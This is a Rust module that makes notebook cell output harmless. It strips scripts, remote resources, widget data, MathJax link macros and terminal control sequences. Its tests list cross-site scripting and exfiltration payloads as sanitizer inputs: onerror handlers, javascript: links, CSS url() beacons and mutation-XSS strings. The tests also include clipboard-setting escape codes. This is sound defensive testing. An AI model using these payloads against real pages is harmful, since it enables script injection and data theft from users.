//! Output that clients may show: without active content, or as it is.
//!
//! A client shows the output of a cell with the rights of its own page: a script in it can use the server that the page came from. A picture
//! from another host tells that host what is in its address. So the guest's output is made harmless, unless the operator trusts the code.

use std::collections::HashSet;
use std::sync::LazyLock;

use base64::prelude::{BASE64_STANDARD, Engine as _};
use brumate_engine_api::FrontendKind;
use pulldown_cmark::{Options, Parser, html::push_html};
use serde_json::{Map, Value, json};

/// Treatment of output.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum OutputPolicy {
    /// Text, tables and pictures. No scripts, no widgets, nothing from another host.
    #[default]
    Passive,
    /// Output as the code made it.
    Active,
}

/// Representations that are shown as they are.
const PASSIVE: [&str; 8] = [
    "text/plain",
    "application/json",
    "application/pdf",
    "image/png",
    "image/jpeg",
    "image/gif",
    "image/webp",
    "image/bmp",
];
/// Properties of styles that only change how text and tables look.
const STYLE: [&str; 24] = [
    "background-color",
    "border",
    "border-bottom",
    "border-collapse",
    "border-color",
    "border-left",
    "border-right",
    "border-style",
    "border-top",
    "border-width",
    "color",
    "font-family",
    "font-size",
    "font-style",
    "font-weight",
    "height",
    "line-height",
    "margin",
    "max-width",
    "padding",
    "text-align",
    "text-decoration",
    "width",
    "white-space",
];
/// Macros of MathJax that make links, name classes or load more macros. Clients typeset formulas in HTML too.
const MACROS: [&str; 7] = [r"\href", r"\url", r"\class", r"\cssId", r"\style", r"\require", r"\data"];
/// Keys of a representation's metadata that are kept: sizes of pictures.
const METADATA: [&str; 3] = ["width", "height", "unconfined"];

static HTML: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut builder = ammonia::Builder::default();
    builder
        .add_tags(["input", "label", "progress", "figure", "figcaption", "section", "font"])
        .add_generic_attributes(["style", "class", "title", "align"])
        .add_tag_attributes("input", ["type", "checked", "disabled"])
        .add_tag_attributes("progress", ["value", "max"])
        .add_tag_attributes("font", ["color"])
        .filter_style_properties(HashSet::from(STYLE))
        .add_url_schemes(["data"])
        .link_rel(Some("noopener noreferrer"))
        .attribute_filter(|element, attribute, value| {
            let is_picture = element == "img" && attribute == "src";
            let is_data = value.trim_start().get(..11).is_some_and(|start| start.eq_ignore_ascii_case("data:image/"));
            let is_link = !is_picture && (attribute == "href" || attribute == "cite" || attribute == "src");
            let is_input = element == "input" && attribute == "type";
            match () {
                () if is_picture && !is_data => None,
                // A page of the guest's in a `data:` address.
                () if is_link && value.trim_start().to_ascii_lowercase().starts_with("data:") => None,
                () if is_input && value != "checkbox" => None,
                () if attribute == "style" && value.to_ascii_lowercase().contains("url") => None,
                () => Some(value.into()),
            }
        });
    builder
});

impl OutputPolicy {
    /// Returns the content of a message of the guest as clients may have it; `None` if they may not.
    pub fn content(self, kind: FrontendKind, mut content: Value) -> Option<Value> {
        if self == Self::Active {
            return Some(content);
        }
        match kind {
            FrontendKind::CommOpen | FrontendKind::CommMsg | FrontendKind::CommClose => return None,
            FrontendKind::DisplayData | FrontendKind::UpdateDisplayData | FrontendKind::ExecuteResult => {
                passive_bundle(&mut content);
            }
            FrontendKind::Error | FrontendKind::ExecuteInput | FrontendKind::ClearOutput => {
                passive_strings(&mut content)
            }
        }
        Some(content)
    }

    /// Makes the content of a reply of the guest harmless.
    pub fn reply(self, mut reply: Value) -> Value {
        if self == Self::Active {
            return reply;
        }
        passive_bundle(&mut reply);
        if let Some(expressions) = reply["user_expressions"].as_object_mut() {
            expressions.values_mut().for_each(passive_bundle);
        }
        if let Some(payload) = reply["payload"].as_array_mut() {
            payload.iter_mut().for_each(passive_bundle);
        }
        passive_strings(&mut reply["traceback"]);
        reply
    }

    /// Returns text of a stream as a terminal may have it.
    pub fn text(self, text: String) -> String {
        if self == Self::Active { text } else { without_controls(text) }
    }

    /// Returns an output of a notebook's cell as clients may have it.
    pub fn output(self, mut output: Value) -> Value {
        if self == Self::Passive {
            match output["output_type"].as_str() {
                Some("display_data" | "execute_result") => passive_bundle(&mut output),
                _ => passive_strings(&mut output),
            }
        }
        output
    }
}

/// Replaces an output that is only a program for the page.
const LEFT_OUT: &str = "[this output is a program for the page that shows it, and was left out; \
    a kernel with --active-output, or a server with --jupyter-active-output, shows it]";

/// Makes the mime bundle in `data` harmless, and keeps sizes of its `metadata`. Content without a bundle stays.
fn passive_bundle(content: &mut Value) {
    let Some(data) = content.get_mut("data").and_then(Value::as_object_mut) else { return };
    let given = std::mem::take(data);
    // The picture stands for the drawing of a script.
    let has_picture = ["image/png", "image/jpeg"].iter().any(|mime| given.contains_key(*mime));
    let mut is_program = false;
    for (mime, payload) in given {
        let text = || payload.as_str().unwrap_or_default();
        match mime.as_str() {
            "text/html" => {
                let has_script = has_script(text());
                is_program |= has_script;
                if !(has_script && has_picture) {
                    insert_html(data, &HTML.clean(text()).to_string());
                }
            }
            "text/markdown" => {
                let mut html = String::new();
                push_html(&mut html, Parser::new_ext(text(), Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH));
                insert_html(data, &HTML.clean(&html).to_string());
            }
            "text/latex" => drop(data.insert(mime, without_macros(text()).into())),
            // A picture runs nothing.
            "image/svg+xml" => {
                let picture = BASE64_STANDARD.encode(text());
                insert_html(data, &format!("<img src=\"data:image/svg+xml;base64,{picture}\">"));
            }
            "text/plain" => drop(data.insert(mime.clone(), without_controls(text().to_owned()).into())),
            _ if PASSIVE.contains(&mime.as_str()) => drop(data.insert(mime.clone(), payload)),
            kind => is_program |= kind.ends_with("javascript"),
        }
    }
    if is_program && !data.iter().any(|(mime, payload)| is_visible(mime, payload)) {
        data.insert("text/plain".to_owned(), LEFT_OUT.into());
    }
    if let Some(metadata) = content.get_mut("metadata") {
        *metadata = passive_metadata(metadata);
    }
}

fn has_script(html: &str) -> bool {
    const TAG: &[u8] = b"<script";
    html.as_bytes().windows(TAG.len()).any(|part| part.eq_ignore_ascii_case(TAG))
}

/// Returns whether a representation shows something: HTML without a text, a picture or a form's field does not.
fn is_visible(mime: &str, payload: &Value) -> bool {
    let text = payload.as_str().unwrap_or("?");
    if mime != "text/html" {
        return !text.trim().is_empty();
    }
    let is_drawn = |tag: &str| ["img", "input", "progress", "hr", "table"].iter().any(|name| tag.starts_with(name));
    text.split('<').enumerate().any(|(index, part)| {
        // The first part precedes all tags.
        let (tag, text) = if index == 0 { ("", part) } else { part.split_once('>').unwrap_or((part, "")) };
        is_drawn(tag) || !text.trim().is_empty()
    })
}

fn insert_html(data: &mut Map<String, Value>, html: &str) {
    // An object's own HTML comes before what was made of another representation.
    let html = without_macros(html);
    data.entry("text/html").or_insert_with(|| html.into());
}

fn passive_metadata(metadata: &Value) -> Value {
    let mut kept = Map::new();
    for (mime, value) in metadata.as_object().into_iter().flatten() {
        let mut sizes = Map::new();
        for key in METADATA {
            if let Some(size) = value.get(key).filter(|size| size.is_number() || size.is_boolean()) {
                sizes.insert(key.to_owned(), size.clone());
            }
        }
        if !sizes.is_empty() {
            kept.insert(mime.clone(), sizes.into());
        }
    }
    json!(kept)
}

/// Makes all texts in a value harmless for a terminal.
fn passive_strings(value: &mut Value) {
    match value {
        Value::String(text) => *text = without_controls(std::mem::take(text)),
        Value::Array(values) => values.iter_mut().for_each(passive_strings),
        Value::Object(fields) => fields.values_mut().for_each(passive_strings),
        _ => {}
    }
}

/// Takes the backslash from macros of [`MACROS`].
fn without_macros(text: &str) -> String {
    MACROS.iter().fold(text.to_owned(), |text, name| match text.contains(name) {
        true => text.replace(name, &name[1..]),
        false => text,
    })
}

/// Takes control characters and sequences out of a text, but for line ends, tabs, backspaces, colors (`ESC [ … m`), and the movements of
/// progress bars (`ESC [ … A`, `B`, `C`, `D`, `K`).
fn without_controls(text: String) -> String {
    let is_harmless = |character: char| !character.is_control() || matches!(character, '\n' | '\r' | '\t' | '\u{8}');
    if text.chars().all(is_harmless) {
        return text;
    }
    let mut kept = String::with_capacity(text.len());
    let mut rest = text.as_str();
    while let Some(character) = rest.chars().next() {
        let length = match character {
            '\u{1b}' => match harmless_sequence(rest) {
                Some(length) => length,
                None => {
                    rest = &rest[1..];
                    continue;
                }
            },
            character if is_harmless(character) => character.len_utf8(),
            character => {
                rest = &rest[character.len_utf8()..];
                continue;
            }
        };
        kept.push_str(&rest[..length]);
        rest = &rest[length..];
    }
    kept
}

/// Returns the length of a color or a movement at the beginning of a text.
fn harmless_sequence(text: &str) -> Option<usize> {
    let parameters = text.strip_prefix("\u{1b}[")?;
    let length = parameters.bytes().take_while(|byte| byte.is_ascii_digit() || matches!(byte, b';' | b':')).count();
    matches!(parameters.as_bytes().get(length)?, b'm' | b'A' | b'B' | b'C' | b'D' | b'K').then_some(2 + length + 1)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(mime: &str, payload: &str) -> Value {
        let content = json!({"data": {mime: payload}, "metadata": {}});
        OutputPolicy::Passive.content(FrontendKind::DisplayData, content).unwrap()["data"].take()
    }

    #[test]
    fn html_has_no_scripts_and_nothing_from_elsewhere() {
        for hostile in [
            "<script>steal()</script>",
            "<img src=x onerror=steal()>",
            "<img src='https://example.com/?secret'>",
            "<img srcset='https://example.com/ 2x'>",
            "<svg onload=steal()><script>steal()</script></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=steal()>",
            "<iframe srcdoc='<script>steal()</script>'></iframe>",
            "<a href='javascript:steal()'>x</a>",
            "<a href=' JaVaScRiPt&colon;steal()'>x</a>",
            "<a href='data:text/html,<script>steal()</script>'>x</a>",
            "<form action='https://example.com'><input name=a><button>x</button></form>",
            "<input type=image src='https://example.com/'>",
            "<style>@import 'https://example.com/steal'</style>",
            "<div style='background: url(https://example.com/steal)'>x</div>",
            "<div style='background-color: url(https://example.com/steal)'>x</div>",
            "<link rel=stylesheet href='https://example.com/steal'>",
            "<base href='https://example.com/'>",
            "<meta http-equiv=refresh content='0; https://example.com'>",
            "<object data='https://example.com/'></object><embed src='https://example.com/'>",
            "<video src='https://example.com/'></video><audio src='https://example.com/'></audio>",
            "<template><img src=x onerror=steal()></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=steal()>\"></noscript>",
        ] {
            let html = shown("text/html", hostile)["text/html"].as_str().unwrap().to_ascii_lowercase();
            for tag in html.split('<').skip(1).filter_map(|rest| rest.split('>').next()) {
                let name = tag.split(' ').next().unwrap_or_default();
                let refused =
                    ["script", "style", "iframe", "svg", "math", "form", "link", "base", "meta", "object", "video"];
                assert!(!refused.contains(&name), "{hostile}: {html}");
                for part in ["steal", "example.com", "javascript", " on", "data:text"] {
                    assert!(!tag.contains(part) || tag.contains("title="), "{hostile}: {html}");
                }
            }
        }
    }

    #[test]
    fn tables_and_pictures_stay() {
        let table = "<table class=\"dataframe\"><tbody><tr><td style=\"color:red\">1</td></tr></tbody></table>";
        let html = shown("text/html", table)["text/html"].as_str().unwrap().to_owned();
        assert!(html.contains("<table class=\"dataframe\">") && html.contains("color:red"), "{html}");
        let picture = "<img src=\"data:image/png;base64,AAAA\">";
        assert_eq!(shown("text/html", picture)["text/html"], picture);
        let link = shown("text/html", "<a href=\"https://example.com\">x</a>");
        assert!(link["text/html"].as_str().unwrap().contains("rel=\"noopener noreferrer\""), "{link}");
        assert_eq!(shown("image/png", "AAAA"), json!({"image/png": "AAAA"}));
        assert!(
            shown("image/svg+xml", "<svg onload='steal()'/>")["text/html"].as_str().unwrap().starts_with("<img src=")
        );
        let both = json!({"data": {"text/html": "<div id=a></div><SCRIPT>draw()</SCRIPT>", "image/png": "A"}});
        let both = OutputPolicy::Passive.content(FrontendKind::DisplayData, both).unwrap();
        assert_eq!(both["data"], json!({"image/png": "A"}));
        let markdown = shown(
            "text/markdown",
            "# A\n\n| a |\n|---|\n| **b** |\n\n![x](https://example.com) <script>steal()</script>",
        );
        let html = markdown["text/html"].as_str().unwrap();
        assert!(html.contains("<h1>A</h1>") && html.contains("<strong>b</strong>"), "{html}");
        assert!(!html.contains("example.com") && !html.contains("steal"), "{html}");
    }

    #[test]
    fn an_output_that_is_only_a_program_says_so() {
        let drawing = "<div id=\"p\" style=\"height: 9px\"></div>\n<script>draw()</script>";
        for data in [
            json!({"text/html": drawing, "application/javascript": "draw()"}),
            json!({"application/javascript": "draw()", "application/vnd.bokehjs_exec.v0+json": ""}),
            json!({"text/html": drawing, "text/plain": ""}),
        ] {
            let content = OutputPolicy::Passive.content(FrontendKind::DisplayData, json!({"data": data})).unwrap();
            assert_eq!(content["data"]["text/plain"], LEFT_OUT, "{data}");
        }
        for seen in ["<b>x</b><script>a</script>", "<img src=\"data:image/png;base64,A\"><script>a</script>"] {
            assert_eq!(shown("text/html", seen)["text/plain"], Value::Null, "{seen}");
        }
        assert_eq!(shown("text/html", "<div></div>")["text/plain"], Value::Null);
    }

    #[test]
    fn representations_that_a_client_runs_are_left_out() {
        assert_eq!(shown("application/javascript", "1"), json!({"text/plain": LEFT_OUT}));
        for mime in ["application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json", "x/y"] {
            assert_eq!(shown(mime, "1"), json!({}), "{mime}");
        }
        for kind in [FrontendKind::CommOpen, FrontendKind::CommMsg, FrontendKind::CommClose] {
            assert_eq!(OutputPolicy::Passive.content(kind, json!({"comm_id": "a"})), None);
            assert!(OutputPolicy::Active.content(kind, json!({"comm_id": "a"})).is_some());
        }
        assert_eq!(
            shown("text/latex", r"$\href{javascript:steal()}{x} + \frac{1}{2}$")["text/latex"],
            r"$href{javascript:steal()}{x} + \frac{1}{2}$"
        );
        let content = json!({"data": {"image/png": "A"}, "metadata": {"image/png": {"width": 3, "x": "<b>"}, "text/html": {"isolated": true}}});
        let content = OutputPolicy::Passive.content(FrontendKind::ExecuteResult, content).unwrap();
        assert_eq!(content["metadata"], json!({"image/png": {"width": 3}}));
    }

    #[test]
    fn replies_are_made_harmless_too() {
        let bundle = json!({"text/plain": "a\u{1b}]52;c;x\u{7}", "text/html": "<script>steal()</script>"});
        let reply = json!({
            "status": "ok",
            "data": bundle,
            "user_expressions": {"a": {"data": bundle}},
            "payload": [{"source": "page", "data": bundle}],
            "traceback": ["\u{1b}[31mx\u{1b}[2J"],
        });
        let reply = OutputPolicy::Passive.reply(reply);
        let harmless = json!({"text/plain": "a]52;c;x", "text/html": ""});
        for data in [&reply["data"], &reply["user_expressions"]["a"]["data"], &reply["payload"][0]["data"]] {
            assert_eq!(data, &harmless);
        }
        assert_eq!(reply["traceback"], json!(["\u{1b}[31mx[2J"]));
    }

    #[test]
    fn outputs_of_notebooks_are_made_harmless() {
        let output = |output: Value| OutputPolicy::Passive.output(output);
        let shown =
            json!({"output_type": "display_data", "data": {"text/html": "<script>a</script>b"}, "metadata": {"x": 1}});
        assert_eq!(output(shown), json!({"output_type": "display_data", "data": {"text/html": "b"}, "metadata": {}}));
        for kind in ["stream", "error"] {
            let text = json!({"output_type": kind, "text": "a\u{1b}]52;c;x\u{7}", "traceback": ["\u{1b}[2Jx"]});
            assert_eq!(output(text), json!({"output_type": kind, "text": "a]52;c;x", "traceback": ["[2Jx"]}));
        }
    }

    #[test]
    fn text_does_nothing_to_a_terminal() {
        let passive = |text: &str| OutputPolicy::Passive.text(text.to_owned());
        for same in ["a\tb\r\n\u{8}é", "\u{1b}[1;31mred\u{1b}[0m\u{1b}[38:5:1m", "\u{1b}[A\u{1b}[2K"] {
            assert_eq!(passive(same), same);
        }
        for (text, kept) in [
            ("\u{1b}]0;title\u{7}x", "]0;titlex"),
            ("\u{9b}2Jx", "2Jx"),
            ("\u{1b}", ""),
            ("\u{1b}[6n", "[6n"),
            ("\u{1b}[31", "[31"),
            ("a\0b", "ab"),
        ] {
            assert_eq!(passive(text), kept);
        }
    }
}
